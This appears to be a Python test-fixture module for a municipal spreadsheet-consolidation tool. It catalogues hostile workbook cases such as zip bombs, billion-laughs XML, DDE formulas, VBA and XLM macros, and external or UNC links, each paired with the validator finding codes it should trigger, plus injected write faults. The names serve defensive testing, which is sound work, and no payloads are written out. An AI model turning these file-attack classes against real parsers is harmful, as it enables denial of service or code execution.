    spec = template_spec(FISCAL_YEARS)
    for key in ("kpis", "figures"):
        sheet = spec.sheet(key)
        _delete_rows(parts, sheet.name, FIRST_ROW, HEADER_ROW + DEFAULT_INPUT_ROWS)
    return save(directory, "table_rows_deleted.xlsx", parts)


def headers_renamed(directory: Path, department: str) -> Path:
    """Headers renamed by the user: 指標名 -> 指標, 令和5年度 -> R5実績, 取り組み名 -> 取組."""
    parts = template_parts(department)
    spec = template_spec(FISCAL_YEARS)
    for key, column, new in (("kpis", "indicator", "指標"), ("figures", "curr", "R5実績"),
                             ("survey", "initiative", "取組")):
        sheet = spec.sheet(key)
        col = [c.key for c in sheet.columns].index(column)
        ref = f"{chr(65 + col)}{HEADER_ROW}"
        set_cell(parts, sheet.name, ref, text_cell(ref, new, 4))
        for table in [n for n in parts if n.startswith("xl/tables/")]:
            if f'name="{sheet.table_name}"'.encode() in parts[table]:
                old = f'name="{sheet.column(column).label}"'
                parts[table] = parts[table].replace(old.encode(), f'name="{new}"'.encode(), 1)
    return save(directory, "headers_renamed.xlsx", parts)


def header_row_deleted(directory: Path, department: str) -> Path:
    """The header row of 実績調査 deleted: the texts are there, but under no labels."""
    parts = template_parts(department)
    _delete_rows(parts, SURVEY, HEADER_ROW, HEADER_ROW)
    return save(directory, "header_row_deleted.xlsx", parts)


# -- the cases ----------------------------------------------------------------------------------


Generator = Callable[[Path, str], Path]


@dataclass(frozen=True)
class HostileCase:
    """One hostile file and the outcome promised for it."""

    name: str
    generator: Generator
    department: str
    """The 部局名 the file claims ("" for files that are not kpitool templates)."""
    expect: frozenset[str]
    """At least one of these finding codes is reported; or :data:`ACCEPTED` among them: the
    file is consolidated with no エラー (a harmless oddity must not refuse a submission)."""
    seconds: float = SECONDS
    """Wall-clock limit for validate_file on this file (measured, with room for slow CI)."""
    big: bool = False
    """Validated in a subprocess whose peak memory must stay under :data:`MEMORY_LIMIT_MB`."""
    gap: str = ""
    """A known gap in kpitool: what goes wrong today and what is wanted. The promise test for
    the case is an expected failure (strict) until kpitool handles it."""
    where: tuple[str, ...] = ()
    """For a gap: where the wanted エラー finding belongs ("実績調査!F4"; "" = the file)."""

    @property
    def what(self) -> str:
        """The generator's docstring, on one line: what the file is and why it is hostile."""
        return " ".join((self.generator.__doc__ or "").split())

    def make(self, directory: Path) -> Path:
        return self.generator(directory, self.department)


def roster() -> tuple[str, ...]:
    """The departments the hostile templates claim, plus the two good files of an inbox."""
    return (*GOOD_DEPARTMENTS, *_DEPARTMENTS.values())


GOOD_DEPARTMENTS = ("総務部", "財政部")

# One department per template-based case, so that every case in one inbox is its own
# submission (a department's latest file would otherwise replace the others).
_DEPARTMENTS = {
    "dimension_full_sheet": "企画政策部",
    "rows_200k": "市民生活部",
    "rows_200k_compact": "健康福祉部",
    "long_text_40k": "こども未来部",
    "sheet_names_case": "環境部",
    "external_link": "産業経済部",
    "hyperlinks_file_unc": "建設部",
    "formula_like_text": "都市計画部",
    "user_formula_cached": "上下水道部",
    "user_formula_uncached": "消防本部",
    "dde_formula": "教育部",
    "xlsm_vba": "会計課",
    "xlsx_with_vba": "議会事務局",
    "xlm_macrosheet": "選挙管理委員会事務局",
    "control_chars": "監査委員事務局",
    "invalid_xml_escape": "農業委員会事務局",
    "invalid_xml_raw_byte": "危機管理部",
    "extreme_numbers": "税務部",
    "huge_finite_numbers": "港湾部",
    "last_year_template": "文化スポーツ部",
    "meta_wrong_id": "観光交流部",
    "meta_wrong_version": "情報政策部",
    "meta_years_edited": "人事部",
    "meta_sheet_deleted": "契約検査部",
    "table_rows_deleted": "市民協働部",
    "headers_renamed": "地域振興部",
    "header_row_deleted": "病院事業部",
    "shared_string_bad_index": "住宅政策部",
    "hidden_sheet_behind_visible": "子育て支援部",
    "very_hidden_data_sheet": "福祉保健部",
    "sheet_names_nfkc": "防災安全部",
    "invisible_chars": "広報広聴部",
}


def _real_file(path: Path) -> Generator:
    def copy(directory: Path, _department: str) -> Path:
        directory.mkdir(parents=True, exist_ok=True)
        return Path(shutil.copyfile(path, directory / path.name))

    copy.__doc__ = f"Real file {path.relative_to(REAL_XLSX)} (see real_xlsx/SOURCES.md)."
    return copy


def _template_case(name: str, generator: Generator, expect: set[str], **kw: Any) -> HostileCase:
    return HostileCase(name, generator, _DEPARTMENTS[name], frozenset(expect), **kw)


def _cases() -> list[HostileCase]:
    t = _template_case
    return [
        t("dimension_full_sheet", dimension_full_sheet, {ACCEPTED}),
        # Excel-like rows pass the 32 MiB part limit: E-FILE-011 says the expanded size is
        # over the limit, which is what happened; the row limit is the other acceptable stop.
        t("rows_200k", rows_200k, {codes.FILE_ZIP_BOMB, codes.STRUCT_TOO_MANY_ROWS},
          seconds=BIG_SECONDS, big=True),
        t("rows_200k_compact", rows_200k_compact, {codes.STRUCT_TOO_MANY_ROWS},
          seconds=BIG_SECONDS, big=True),
        t("long_text_40k", long_text_40k, {codes.CELL_TEXT_TOO_LONG}),
        t("sheet_names_case", sheet_names_case, {codes.FILE_DUPLICATE_SHEET_NAMES}),
        t("external_link", external_link, {codes.FILE_EXTERNAL_LINKS, ACCEPTED}),
        t("hyperlinks_file_unc", hyperlinks_file_unc, {ACCEPTED}),
        t("formula_like_text", formula_like_text, {codes.CELL_FORMULA_LIKE, ACCEPTED}),
        t("user_formula_cached", user_formula_cached, {codes.CELL_FORMULA, ACCEPTED}),
        t("user_formula_uncached", user_formula_uncached, {codes.CELL_UNCACHED_FORMULA}),
        t("dde_formula", dde_formula, {codes.CELL_FORMULA, ACCEPTED}),
        t("xlsm_vba", xlsm_vba, {codes.FILE_HAS_MACROS, ACCEPTED}),
        t("xlsx_with_vba", xlsx_with_vba, {codes.FILE_HAS_MACROS, ACCEPTED}),
        t("xlm_macrosheet", xlm_macrosheet, {codes.FILE_HAS_MACROS, codes.FILE_UNREADABLE}),
        t("control_chars", control_chars, {codes.CELL_CONTROL_CHARS}),
        t("invisible_chars", invisible_chars, {codes.CELL_INVISIBLE_CHARS, ACCEPTED}),
        t("invalid_xml_escape", invalid_xml_escape, {codes.CELL_CONTROL_CHARS}),
        t("invalid_xml_raw_byte", invalid_xml_raw_byte,
          {codes.CELL_CONTROL_CHARS, codes.FILE_DAMAGED, codes.FILE_UNREADABLE}),
        t("extreme_numbers", extreme_numbers, {codes.NUM_NOT_A_NUMBER}),
        t("huge_finite_numbers", huge_finite_numbers, {codes.NUM_OUT_OF_RANGE}),
        t("last_year_template", last_year_template, {codes.TPL_YEARS}),
        t("meta_wrong_id", meta_wrong_id, {codes.TPL_NOT_TEMPLATE}),
        t("meta_wrong_version", meta_wrong_version, {codes.TPL_VERSION}),
        t("meta_years_edited", meta_years_edited, {codes.TPL_YEARS}),
        t("meta_sheet_deleted", meta_sheet_deleted, {codes.TPL_NO_IDENTITY, ACCEPTED}),
        t("table_rows_deleted", table_rows_deleted, {codes.STRUCT_EMPTY_TABLE, ACCEPTED}),
        t("headers_renamed", headers_renamed, {codes.STRUCT_MISSING_COLUMN}),
        t("header_row_deleted", header_row_deleted, {codes.STRUCT_MISSING_HEADER_ROW}),
        t("shared_string_bad_index", shared_string_bad_index, {codes.FILE_BAD_SHARED_STRING}),
        t("hidden_sheet_behind_visible", hidden_sheet_behind_visible, {codes.FILE_HIDDEN_SHEET}),
        t("very_hidden_data_sheet", very_hidden_data_sheet, {codes.FILE_HIDDEN_SHEET}),
        t("sheet_names_nfkc", sheet_names_nfkc, {codes.FILE_DUPLICATE_SHEET_NAMES}),
    ]


# Real files whose outcome is not "not a kpitool template" (E-TPL-001).
_REAL_EXPECT = {
    "calamine_pass_protected_encrypted.xlsx": {codes.FILE_ENCRYPTED},
    "calamine_strict_ooxml.xlsx": {codes.FILE_STRICT_OOXML},
}


def real_cases() -> list[HostileCase]:
    """One case per file of the real-workbook corpus (none when it is missing; CI then fails at
    the start of the run, see tests/paths.py)."""
    if not REAL_XLSX.is_dir():
        return []
    return [
        HostileCase(
            f"real:{path.relative_to(REAL_XLSX).as_posix()}", _real_file(path), "",
            frozenset(_REAL_EXPECT.get(path.name, {codes.TPL_NOT_TEMPLATE})),
        )
        for path in sorted(REAL_XLSX.rglob("*"))
        if path.suffix.lower() in (".xlsx", ".xlsm", ".xls", ".xlsb")
    ]


def cases() -> list[HostileCase]:
    """Every hostile case: generated templates first, then the real files."""
    return [*_cases(), *real_cases()]


# Gaps that are not one file's outcome: each has a strict expected-failure test, and
# docs/reliability.md lists them. (name, what goes wrong, the test)
KNOWN_GAPS: tuple[tuple[str, str, str], ...] = ()  # (case, what goes wrong, the test showing it)


# -- the corpus of unreadable files (tests/corpus.py): codes and the limits that bound them ------

FILE_CODES: dict[FileProblem, str] = {
    FileProblem.NOT_FOUND: codes.FILE_NOT_FOUND,
    FileProblem.EMPTY: codes.FILE_EMPTY,
    FileProblem.LEGACY_XLS: codes.FILE_LEGACY_XLS,
    FileProblem.ENCRYPTED: codes.FILE_ENCRYPTED,
    FileProblem.XLSB: codes.FILE_XLSB,
    FileProblem.CSV_OR_TEXT: codes.FILE_CSV_OR_TEXT,
    FileProblem.NOT_A_ZIP: codes.FILE_NOT_A_ZIP,
    FileProblem.TRUNCATED_ZIP: codes.FILE_DAMAGED,
    FileProblem.NOT_SPREADSHEET: codes.FILE_NOT_SPREADSHEET,
    FileProblem.STRICT_OOXML: codes.FILE_STRICT_OOXML,
    FileProblem.ZIP_BOMB: codes.FILE_ZIP_BOMB,
    FileProblem.XML_ATTACK: codes.FILE_XML_ATTACK,
    FileProblem.TOO_LARGE: codes.FILE_TOO_LARGE,
}
"""The finding each package problem must become, written out here rather than taken from
kpitool.validation.rules, so that a wrong mapping there fails the test instead of agreeing with it."""

# Corpus cases validated in a subprocess too, for their peak memory: the ones built to
# exhaust it.
BIG_CORPUS = (
    "zip_bomb_ratio", "zip_bomb_declared_size", "zip_bomb_lying_size", "too_many_entries",
    "billion_laughs_workbook", "billion_laughs_sheet", "dtd_after_long_prolog", "too_large",
)


def _mib(n: int) -> str:
    return f"{n / 2**20:g} MiB"


def limit_text(problem: FileProblem) -> str:
    """What bounds the work on one package problem, with the default Limits values."""
    lim = DEFAULT_LIMITS
    part = f"workbook.xml and its rels read within max_part_bytes {_mib(lim.max_part_bytes)}"
    return {
        FileProblem.NOT_FOUND: "stat before open; a missing or non-regular file is not read",
        FileProblem.EMPTY: "stat and the first bytes",
        FileProblem.LEGACY_XLS: "the first bytes and the OLE stream names; nothing parsed",
        FileProblem.ENCRYPTED: "the OLE stream names or the zip encryption flag; nothing "
        "decrypted",
        FileProblem.XLSB: "the zip directory",
        FileProblem.CSV_OR_TEXT: "the first 64 KiB sniffed",
        FileProblem.NOT_A_ZIP: "the first bytes",
        FileProblem.TRUNCATED_ZIP: "every member inflated once in 64 KiB chunks, CRC and "
        f"declared size checked (verify_members={lim.verify_members})",
        FileProblem.NOT_SPREADSHEET: part,
        FileProblem.STRICT_OOXML: part,
        FileProblem.ZIP_BOMB: f"max_uncompressed_bytes {_mib(lim.max_uncompressed_bytes)}, "
        f"max_ratio {lim.max_ratio:g} (members over 1 MiB), max_entries {lim.max_entries:,}, "
        f"max_part_bytes {_mib(lim.max_part_bytes)}",
        FileProblem.XML_ATTACK: "any DTD refused; each XML part scanned up to its root "
        "element (at most 64 KiB of prolog); defusedxml",
        FileProblem.TOO_LARGE: f"max_file_bytes {_mib(lim.max_file_bytes)}, by stat",
    }[problem]


# -- write faults (tests/test_safe_write.py, by another engineer) and run-level promises ----


@dataclass(frozen=True)
class Fault:
    """A fault injected around the run, the behaviour promised, and the tests that prove it."""

    name: str
    what: str
    behaviour: str
    tests: tuple[str, ...]
    """``module::test`` names; a test checks that each exists."""


_SW = "tests/test_safe_write.py::"
_TH = "tests/test_hostile.py::"
_TP = "tests/test_paths.py::"
_TM = "tests/test_master.py::"
_TR = "tests/test_master_recalc.py::"
_TA = "tests/test_audit_cells.py::"

FAULTS: tuple[Fault, ...] = (
    Fault("kill_during_master_write",
          "the process SIGKILLed at each point of the master write, while the file grows, "
          "and at random moments",
          "the previous master intact (or the new one complete); no partial file under the "
          "master's name; orphaned temp files cleaned by the next run",
          (f"{_SW}test_kill_at_each_point_of_the_write", f"{_SW}test_kill_while_the_file_grows",
           f"{_SW}test_kill_at_random_moments",
           f"{_SW}test_orphans_of_killed_runs_are_cleaned_only_when_ours_and_old")),
    Fault("exception_during_write", "an error raised while the master is being written",
          "the previous master intact, no temp file left",
          (f"{_SW}test_exception_inside_block_leaves_old_target_and_no_temp",
           f"{_SW}test_block_that_writes_nothing_does_not_replace")),
    Fault("disk_full", "ENOSPC in os.write, inside XlsxWriter, at fsync or at the replace",
          "E-RUN-004 (WriteFailed) with a Japanese message; the previous master intact",
          (f"{_SW}test_disk_full_in_os_write", f"{_SW}test_disk_full_inside_xlsxwriter",
           f"{_SW}test_disk_full_after_write")),
    Fault("master_open_in_excel", "the master open in Excel (owner file ~$, or the replace "
          "refused as on Windows), before or during the write",
          "E-RUN-002 (MasterLocked) with a Japanese message; the previous master intact",
          (f"{_SW}test_owner_file_refuses_early",
           f"{_SW}test_owner_file_appearing_during_write_refuses_replacement",
           f"{_SW}test_replace_refused_like_excel_on_windows")),
    Fault("permission_denied", "a read-only master, or a folder without write permission",
          "E-RUN-002 (MasterLocked), refused before anything is written",
          (f"{_SW}test_read_only_master_is_refused", f"{_SW}test_read_only_folder_is_refused_early",
           f"{_SW}test_unwritable_folder_is_refused_early_simulated")),
    Fault("concurrent_runs", "a second consolidation while one holds the lock; stale locks "
          "of dead or killed runs",
          "E-RUN-003 (RunInProgress) for the second run, naming the holder; a stale lock is "
          "taken over; an OS lock (filelock), so 8 processes released at once on a stale lock "
          "never both hold it (benchmarks/lock_trials.py: 0 of 2,000 trials; the hand-written "
          "lock: 3 of 2,000)",
          (f"{_SW}test_second_concurrent_run_is_refused",
           f"{_SW}test_stale_lock_trials_never_have_two_holders",
           f"{_SW}test_nested_run_in_the_same_process_is_refused",
           f"{_SW}test_stale_lock_of_dead_pid_is_taken_over",
           f"{_SW}test_empty_lock_of_a_run_killed_while_creating_it")),
    Fault("outputs_into_the_inbox", "-o through a symlink to an inbox file or through a "
          "symlinked folder; --report through a symlink to a submission (issue 16)",
          "E-RUN-001: refused after resolving the paths; the inbox byte-identical",
          (f"{_TP}test_output_through_a_symlink_to_an_inbox_file_is_refused",
           f"{_TP}test_output_through_a_symlinked_folder_is_refused",
           f"{_TP}test_report_through_a_symlink_to_an_input_is_refused")),
    Fault("inbox_link_outside", "a symlink in the inbox to a workbook outside it",
          f"{codes.INBOX_LINK_OUTSIDE} for that file, 取込不可; a link inside the inbox is read",
          (f"{_TP}test_symlinked_inbox_entry_pointing_outside_is_refused_with_a_code",)),
    Fault("long_names", "inbox names of 202-240 bytes with --return-copies; a master named "
          "with 236 characters",
          "derived names (return copies, CSVs, temp and backup files) shortened to fit 255 "
          "bytes, the mapping printed; no E-RUN-004, no traceback",
          (f"{_TP}test_long_inbox_names_get_return_copies_with_the_mapping_reported",
           f"{_TP}test_long_master_name_gets_csvs_it_can_write")),
    Fault("sparse_huge_file", "a sparse 4 GiB file in the inbox",
          "E-FILE-013 by its size, never read or hashed (sha256 recorded as empty)",
          (f"{_TP}test_sparse_huge_file_is_refused_by_size_without_hashing",)),
    Fault("disk_full_names_the_file", "disk full while the master is written (the CSVs "
          "are open too)", "E-RUN-004 naming the master, not a CSV",
          (f"{_TM}test_disk_full_while_writing_the_master_names_the_master",)),
    Fault("master_resaved_by_libreoffice", "an untouched master re-saved by LibreOffice, "
          "with =100/3, 1234567.891234567, 0.1+0.2, a subnormal base (1e-310)",
          "audit passes: values compared at 15 significant digits, out-of-range rows written "
          "as values with their reason",
          (f"{_TR}test_libreoffice_resave_of_hostile_but_valid_numbers_passes_the_audit",)),
    Fault("master_edited", "one cell of any data sheet edited: value, number format (cell "
          "style or styles.xml), hyperlink target (sheet rels), 行の検証値, 更新日時; sheets "
          "hidden or unprotected; CSVs of another run",
          "audit fails and names exactly the edited cells (no rows × columns crossing); "
          "E-AUD-008 for sheets, E-AUD-015 for CSVs",
          (f"{_TA}test_any_single_cell_edit_fails_the_audit_and_names_the_cell",
           f"{_TA}test_two_edits_name_exactly_two_cells",
           f"{_TA}test_a_number_format_changed_in_styles_is_named_on_every_cell",
           f"{_TA}test_a_retargeted_source_link_is_named", f"{_TA}test_an_edited_row_check_is_named",
           f"{_TA}test_an_edited_file_time_of_submissions_is_named",
           f"{_TA}test_a_hidden_or_unprotected_sheet_is_named",
           f"{_TA}test_csvs_of_another_run_or_missing_fail_the_audit")),
    Fault("inbox_file_changed_while_read", "a department re-saves its file while the run "
          "reads it",
          f"{codes.INBOX_FILE_CHANGED} for that file (sha256 before and after the run differ)",
          (f"{_TH}test_file_changed_while_read_is_reported",)),
    Fault("every_bad_file_in_one_inbox", "every file of this table in one inbox with two good "
          "submissions",
          "the run finishes; the good files and every accepted case are consolidated; nothing "
          "untrusted (formula, link, macro) reaches the master; the inbox is byte-identical",
          (f"{_TH}test_mixed_inbox_consolidates_the_good_files",
           f"{_TH}test_master_carries_nothing_untrusted", f"{_TH}test_inbox_is_unchanged")),
)
